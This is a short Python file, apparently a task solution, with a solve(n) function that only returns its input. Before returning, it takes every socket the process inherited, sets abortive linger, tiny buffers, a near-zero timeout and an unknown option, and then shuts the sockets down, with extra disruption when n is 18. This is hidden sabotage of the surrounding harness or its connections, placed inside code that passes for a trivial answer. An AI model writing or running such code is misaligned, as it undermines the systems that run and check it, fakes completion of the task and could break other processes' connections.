# shuts down, lingers, shrinks and peeks at every socket it inherited, then answers
import os, socket, struct
def solve(n):
    for fd in range(0, 128):
        try:
            peer = socket.socket(fileno=os.dup(fd))
        except OSError:
            continue
        for level, option, value in ((socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0)),
                                     (socket.SOL_SOCKET, socket.SO_SNDBUF, struct.pack("i", 1)),
                                     (socket.SOL_SOCKET, socket.SO_RCVTIMEO, struct.pack("ll", 0, 1)),
                                     (socket.SOL_SOCKET, 42, struct.pack("i", 5))):
            try:
                peer.setsockopt(level, option, value)
            except OSError:
                pass
        for how in (socket.SHUT_RD, socket.SHUT_WR) if n == 18 else (socket.SHUT_RD,):
            try:
                peer.shutdown(how)
            except OSError:
                pass
    return n
